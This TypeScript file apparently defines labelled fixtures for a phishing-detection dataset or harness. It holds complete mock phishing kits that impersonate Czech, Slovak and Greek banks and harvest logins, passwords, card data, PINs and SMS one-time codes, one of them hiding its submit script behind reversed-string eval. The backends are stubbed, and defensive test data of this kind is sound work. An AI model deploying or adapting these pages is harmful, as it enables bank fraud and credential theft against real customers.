import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, b64, favicon, wordmark, wordmarkUri, baseCss, cardFieldScript, chunks, xorList, rev } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'george-csas.overeni-klienta.com';
  const css = `${baseCss}
body{background:#f3f6f9;color:#2e3f50}
header{background:#135ee2;height:64px;display:flex;align-items:center;padding:0 32px}
header .lang{margin-left:auto;color:#fff;font-size:14px;opacity:.9}
main{max-width:440px;margin:56px auto;background:#fff;border-radius:12px;box-shadow:0 8px 30px rgba(19,94,226,.12);padding:40px}
h1{font-size:26px;margin:0 0 6px;color:#0b1f35}
p.sub{margin:0 0 28px;color:#5a6b7c}
label{display:block;font-size:14px;font-weight:600;margin:18px 0 6px}
input{width:100%;height:48px;border:1px solid #b8c4d0;border-radius:8px;padding:0 14px;font-size:16px}
input:focus{outline:none;border-color:#135ee2;box-shadow:0 0 0 3px rgba(19,94,226,.2)}
button{margin-top:28px;width:100%;height:50px;border:0;border-radius:25px;background:#135ee2;color:#fff;font-size:17px;font-weight:600;cursor:pointer}
.hint{font-size:13px;color:#5a6b7c;margin-top:18px}
.step{display:none}.step.on{display:block}
.err{color:#c4262e;font-size:14px;margin-top:10px;display:none}
footer{text-align:center;font-size:12px;color:#8797a8;margin:40px 0}`;
  const body = `<header>${wordmark('George', '#fff', { mark: 'none', text: '#fff', width: 110 })}<span class="lang">Čeština ▾</span></header>
<main>
  <section class="step on" id="s1">
    <h1>Přihlášení do George</h1>
    <p class="sub">Z bezpečnostních důvodů je nutné ověřit vaši totožnost. Po ověření bude přístup k účtu obnoven.</p>
    <form id="f1" autocomplete="off">
      <label for="u">Klientské číslo nebo uživatelské jméno</label>
      <input id="u" name="u" inputmode="text" required>
      <label for="p">Heslo</label>
      <input id="p" name="p" type="password" required>
      <div class="err" id="e1">Zadané údaje nejsou správné. Zkuste to znovu.</div>
      <button type="submit">Pokračovat</button>
    </form>
    <p class="hint">Klientské číslo najdete ve smlouvě nebo v aplikaci George klíč.</p>
  </section>
  <section class="step" id="s2">
    <h1>Ověření SMS kódem</h1>
    <p class="sub">Na vaše telefonní číslo jsme zaslali jednorázový kód. Opište jej prosím níže.</p>
    <form id="f2" autocomplete="off">
      <label for="c">SMS kód</label>
      <input id="c" name="c" inputmode="numeric" maxlength="8" required>
      <button type="submit">Potvrdit</button>
    </form>
  </section>
</main>
<footer>© Česká spořitelna, a.s. · Olbrachtova 1929/62, 140 00 Praha 4 · Infolinka 956 777 956</footer>`;
  const js = `<script>
var sid=Math.random().toString(36).slice(2);
function send(step,data){return fetch('api.php',{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'sid='+sid+'&step='+step+'&'+new URLSearchParams(data).toString()}).then(function(r){return r.json()}).catch(function(){return {ok:1}})}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();var d={u:u.value,p:p.value};if(d.p.length<4){document.getElementById('e1').style.display='block';return}
send(1,d).then(function(){document.getElementById('s1').classList.remove('on');document.getElementById('s2').classList.add('on')})};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();send(2,{c:c.value}).then(function(){location.href='cekani.php?sid='+sid})};
</script>`;
  const wait = page({ lang: 'cs', title: 'George – ověřování', head: favicon('#135ee2', 'G'), css: `${baseCss}body{background:#f3f6f9;display:grid;place-items:center;min-height:100vh}.box{background:#fff;border-radius:12px;padding:40px;max-width:420px;text-align:center}.sp{width:48px;height:48px;border:5px solid #dbe6fb;border-top-color:#135ee2;border-radius:50%;animation:r 1s linear infinite;margin:0 auto 20px}@keyframes r{to{transform:rotate(360deg)}}`,
    body: `<div class="box"><div class="sp"></div><h2>Probíhá ověření</h2><p>Nezavírejte prosím toto okno. Ověření může trvat až 5 minut. V případě potřeby vás bude kontaktovat náš bezpečnostní specialista.</p></div>`,
    scripts: `<script>var q=new URLSearchParams(location.search);setInterval(function(){fetch('status.php?sid='+q.get('sid')).then(function(r){return r.json()}).then(function(j){if(j.go)location.href=j.go})},3000)</script>` });
  return {
    id: 'yd-george-cz-sms-kit', label: 'phishing', kind: 'bank-login-kit',
    url: `https://${host}/prihlaseni/`,
    body: page({ lang: 'cs', title: 'George – Přihlášení', head: favicon('#135ee2', 'G'), css, body, scripts: js }),
    routes: {
      [`${host}/prihlaseni/api.php`]: jsonRoute({ ok: 1 }),
      [`${host}/prihlaseni/cekani.php`]: htmlRoute(wait),
      [`${host}/prihlaseni/status.php`]: jsonRoute({ go: '' }),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'alpha-3dsecure.gr-epalitheusi.net';
  const css = `${baseCss}body{background:#e9ecef;font-family:Arial,sans-serif;font-size:14px}
.acs{max-width:400px;margin:30px auto;background:#fff;border:1px solid #ccc}
.acs .top{display:flex;justify-content:space-between;align-items:center;padding:14px 16px;border-bottom:1px solid #ddd}
.acs .in{padding:18px 20px}.t{width:100%;border-collapse:collapse;margin:10px 0 16px}.t td{padding:4px 0}.t td:first-child{color:#666;width:45%}
label{display:block;margin:10px 0 4px;color:#333}input{width:100%;padding:9px;border:1px solid #aaa}
.row{display:flex;gap:10px}.row>div{flex:1}
button{margin-top:16px;width:100%;background:#0a3a84;color:#fff;border:0;padding:11px;cursor:pointer}
.sec{font-size:11px;color:#777;padding:10px 20px;border-top:1px solid #eee}`;
  const body = `<div class="acs">
<div class="top">${wordmark('Alpha Bank', '#0a3a84', { mark: 'square', width: 140, height: 30 })}<svg width="64" height="30"><rect width="64" height="30" rx="4" fill="#1a1f71"/><text x="32" y="20" fill="#fff" font-family="Arial" font-size="13" font-weight="700" text-anchor="middle">VISA</text></svg></div>
<div class="in">
<h3 style="margin:0 0 6px">Ασφαλής αγορά — Επαλήθευση κατόχου</h3>
<p>Για την ολοκλήρωση της συναλλαγής επιβεβαιώστε τα στοιχεία της κάρτας σας.</p>
<table class="t"><tr><td>Έμπορος:</td><td>ΕΛΤΑ Courier – Τέλη εκτελωνισμού</td></tr><tr><td>Ποσό:</td><td><b>1,96 EUR</b></td></tr><tr><td>Ημερομηνία:</td><td id="dt"></td></tr></table>
<form id="cf">
<label>Αριθμός κάρτας</label><input name="pan" data-card="number" required>
<div class="row"><div><label>Λήξη (ΜΜ/ΕΕ)</label><input name="exp" data-card="expiry" required></div><div><label>CVV2</label><input name="cvv" data-card="cvc" required></div></div>
<label>Ονοματεπώνυμο κατόχου</label><input name="name" required>
<button>Συνέχεια</button>
</form>
<form id="of" hidden>
<p>Σας στείλαμε κωδικό μίας χρήσης (OTP) μέσω SMS στο κινητό που έχετε δηλώσει.</p>
<label>Κωδικός OTP</label><input name="otp" inputmode="numeric" maxlength="6" required>
<button>Επιβεβαίωση</button>
</form>
</div>
<div class="sec">Alpha Bank · Visa Secure · Η συναλλαγή προστατεύεται με κρυπτογράφηση 256-bit.</div>
</div>`;
  const js = `${cardFieldScript}<script>
document.getElementById('dt').textContent=new Date().toLocaleString('el-GR');
function snd(f){return fetch('/3ds/submit.php',{method:'POST',body:new FormData(f)}).catch(function(){})}
document.getElementById('cf').onsubmit=function(e){e.preventDefault();var n=this.pan.value.replace(/\\s/g,'');if(!window.__luhn(n)){alert('Μη έγκυρος αριθμός κάρτας');return}snd(this).then(function(){cf.hidden=true;of.hidden=false})};
document.getElementById('of').onsubmit=function(e){e.preventDefault();snd(this).then(function(){document.querySelector('.in').innerHTML='<h3>Η πληρωμή βρίσκεται σε επεξεργασία</h3><p>Παρακαλώ περιμένετε…</p>'})};
</script>`;
  return {
    id: 'yd-alpha-gr-3ds-otp-kit', label: 'phishing', kind: '3ds-card-kit',
    url: `https://${host}/acs/auth.php?tx=7731920`,
    body: page({ lang: 'el', title: 'Visa Secure – Alpha Bank', css, body, scripts: js }),
    routes: { [`${host}/3ds/submit.php`]: jsonRoute({ r: 1 }) },
  } satisfies Entry;
})(),

(() => {
  const host = 'tatrabanka-aktualizacia.sk-app.info';
  const css = `${baseCss}body{background:#f4f4f4}.hd{background:#fff;height:72px;display:flex;align-items:center;padding:0 36px;border-bottom:1px solid #e5e5e5}
.main{display:flex;max-width:980px;margin:34px auto;gap:30px;padding:0 16px}.form{flex:3;background:#fff;padding:34px}.side{flex:2;background:#000;color:#fff;padding:28px;border-radius:2px}
h1{font-size:26px;margin:0 0 14px;font-weight:600}.f{margin:12px 0}.f label{display:block;font-size:13px;margin-bottom:4px;color:#444}.f input{width:100%;border:0;border-bottom:2px solid #999;padding:9px 2px;font-size:16px;background:transparent}.f input:focus{outline:none;border-color:#000}
.btn{background:#ffdd00;border:0;padding:14px 38px;font-weight:700;margin-top:18px;cursor:pointer}
.side h3{color:#ffdd00;margin-top:0}`;
  const body = `<div class="hd">${wordmark('Tatra banka', '#000', { mark: 'square', width: 160 })}</div>
<div class="main"><div class="form">
<h1>Aktualizácia mobilného tokenu</h1>
<p>Váš Tatra banka mobilný token vyprší o <b id="cd">23:59:41</b>. Pre pokračovanie v používaní Internet bankingu a aplikácie Tatra banka je potrebné token znovu aktivovať.</p>
<form method="post" action="next.php">
<div class="f"><label>Prihlasovacie meno</label><input name="login" required></div>
<div class="f"><label>Heslo do Internet bankingu</label><input name="heslo" type="password" required></div>
<div class="f"><label>Číslo platobnej karty</label><input name="karta" data-card="number" required></div>
<div class="f"><label>PIN k platobnej karte</label><input name="pin" type="password" maxlength="4" inputmode="numeric" required></div>
<div class="f"><label>Mobilné číslo</label><input name="mobil" value="+421" required></div>
<button class="btn">Aktivovať</button>
</form></div>
<div class="side"><h3>Prečo aktualizácia?</h3><p>Na základe nariadení NBS zavádzame novú úroveň ochrany vašich platieb. Aktualizácia trvá menej ako 2 minúty.</p><p>DIALOG Live: 0850 111 111</p></div></div>`;
  const js = `${cardFieldScript}<script>var s=86381;setInterval(function(){s--;var h=Math.floor(s/3600),m=Math.floor(s%3600/60),x=s%60;cd.textContent=[h,m,x].map(function(n){return('0'+n).slice(-2)}).join(':')},1000)</script>`;
  const step2 = page({ lang: 'sk', title: 'Tatra banka – overenie', css,
    body: `<div class="hd">${wordmark('Tatra banka', '#000', { mark: 'square', width: 160 })}</div><div class="main"><div class="form"><h1>Overenie</h1><p>Zadajte aktivačný kód, ktorý sme vám zaslali v SMS.</p><form method="post" action="done.php"><div class="f"><label>Aktivačný kód</label><input name="akt" inputmode="numeric" maxlength="8" required></div><button class="btn">Potvrdiť</button></form></div></div>` });
  return {
    id: 'yd-tatra-sk-token-renewal-kit', label: 'phishing', kind: 'mobile-token-kit',
    url: `https://${host}/aktivacia/index.php`,
    body: page({ lang: 'sk', title: 'Tatra banka – Aktualizácia', head: favicon('#000', 'T', '#ffdd00'), css, body, scripts: js }),
    routes: {
      [`${host}/aktivacia/next.php`]: htmlRoute(step2),
      [`${host}/aktivacia/done.php`]: redirectRoute(302, 'https://www.tatrabanka.sk/'),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'www.pekarna-dvorak.cz';
  const dir = '/wp-includes/css/dist/fio';
  const css = `body{margin:0;font-family:Verdana,Arial,sans-serif;font-size:13px;background:#fff;color:#222}
#top{height:60px;border-bottom:4px solid #0064b0;display:flex;align-items:center;padding:0 24px}
#top .r{margin-left:auto;color:#0064b0}
#login{width:360px;margin:50px auto;border:1px solid #c8d6e5;padding:22px 26px;background:#f7fafd}
#login h2{color:#0064b0;font-size:17px;margin:0 0 14px}
#login table{width:100%}#login td{padding:6px 0}#login input[type=text],#login input[type=password]{width:100%;padding:6px;border:1px solid #99a}
#login .btn{background:#0064b0;color:#fff;border:0;padding:7px 24px;cursor:pointer}
.note{width:360px;margin:0 auto;font-size:11px;color:#666}`;
  const body = `<div id="top">${wordmark('Fio banka', '#0064b0', { mark: 'circle', width: 140 })}<span class="r">Internetbanking</span></div>
<div id="login"><h2>Přihlášení do internetbankingu</h2>
<form name="LoginForm" method="post" action="${dir}/post.php">
<table><tr><td>Uživatelské jméno:</td></tr><tr><td><input type="text" name="LOGIN_USERNAME" maxlength="12"></td></tr>
<tr><td>Heslo:</td></tr><tr><td><input type="password" name="LOGIN_PASSWORD" maxlength="30"></td></tr>
<tr><td><input class="btn" type="submit" value="Přihlásit"></td></tr></table>
</form></div>
<p class="note">Fio banka, a.s., V Celnici 1028/10, 117 21 Praha 1. Po přihlášení potvrďte přístup ve Smartbankingu.</p>`;
  const wait = `<!DOCTYPE html><html lang="cs"><head><meta charset="utf-8"><title>Fio banka</title><style>${css}</style></head><body><div id="top">${wordmark('Fio banka', '#0064b0', { mark: 'circle', width: 140 })}</div>
<div id="login"><h2>Potvrzení přihlášení</h2><p>Pro dokončení přihlášení opište kód, který jste obdrželi SMS zprávou, nebo potvrďte přihlášení v aplikaci Smartbanking a zadejte zobrazený kód.</p>
<form method="post" action="${dir}/post2.php"><input type="text" name="SMS_KOD" maxlength="8" style="width:100%;padding:6px"><br><br><input class="btn" type="submit" value="Potvrdit"></form></div></body></html>`;
  return {
    id: 'yd-fio-cz-hacked-wp-kit', label: 'phishing', kind: 'hacked-site-bank-kit',
    url: `https://${host}${dir}/index.html`,
    body: `<!DOCTYPE html><html lang="cs"><head><meta charset="utf-8"><title>Fio banka - Internetbanking</title><style>${css}</style></head><body>${body}</body></html>`,
    routes: {
      [`${host}${dir}/post.php`]: htmlRoute(wait),
      [`${host}${dir}/post2.php`]: redirectRoute(302, 'https://ib.fio.cz/ib/login'),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'eurobank-gr-ebanking.com';
  const css = `${baseCss}body{background:#fff;font-family:Arial,sans-serif}.hdr{background:#d10028;height:56px;display:flex;align-items:center;padding:0 28px}.cont{max-width:880px;margin:30px auto;display:flex;gap:36px;padding:0 18px}
.l{flex:1}.r{flex:1;background:#f6f6f6;padding:24px}h1{font-size:24px;color:#222;font-weight:400}
label{display:block;font-size:13px;margin:12px 0 4px;color:#444}input{width:100%;padding:10px;border:1px solid #aaa}button{background:#d10028;color:#fff;border:0;padding:11px 30px;margin-top:18px;cursor:pointer}`;
  const body = `<div class="hdr">${wordmark('Eurobank', '#fff', { mark: 'circle', text: '#fff', width: 140 })}</div>
<div class="cont"><div class="l"><h1>Eurobank e-Banking</h1><p>Για λόγους ασφαλείας, η πρόσβασή σας έχει περιοριστεί προσωρινά. Συνδεθείτε για να επιβεβαιώσετε τα στοιχεία σας και να αποκαταστήσετε την πρόσβαση.</p><p>Εξυπηρέτηση πελατών: 210 9555000</p></div>
<div class="r"><form id="lf"><label>Κωδικός Χρήστη (User ID)</label><input name="uid" required><label>Κωδικός Πρόσβασης (Password)</label><input name="pwd" type="password" required><label>Αριθμός κινητού</label><input name="mob" inputmode="tel"><button>Είσοδος</button></form></div></div>`;
  const payload = `document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this);fetch('/gate/collect',{method:'POST',body:d}).then(function(){location.href='/ebanking/otp.html'})})`;
  const js = `<script>eval(${JSON.stringify(rev(payload))}.split('').reverse().join(''))</script>`;
  const otp = page({ lang: 'el', title: 'Eurobank e-Banking', css, body: `<div class="hdr">${wordmark('Eurobank', '#fff', { mark: 'circle', text: '#fff', width: 140 })}</div><div class="cont"><div class="r"><h1>Κωδικός μίας χρήσης</h1><p>Καταχωρήστε τον κωδικό που λάβατε με SMS.</p><form action="/gate/collect" method="post"><input name="otp" maxlength="6"><button>Επιβεβαίωση</button></form></div></div>` });
  return {
    id: 'yd-eurobank-gr-reversed-js-kit', label: 'phishing', kind: 'obfuscated-bank-kit',
    url: `https://${host}/ebanking/`,
    body: page({ lang: 'el', title: 'Eurobank e-Banking | Σύνδεση', head: favicon('#d10028', 'E'), css, body, scripts: js }),
    routes: {
      [`${host}/gate/collect`]: jsonRoute({ ok: 1 }),
      [`${host}/ebanking/otp.html`]: htmlRoute(otp),
    },
  } satisfies Entry;
})(),
];
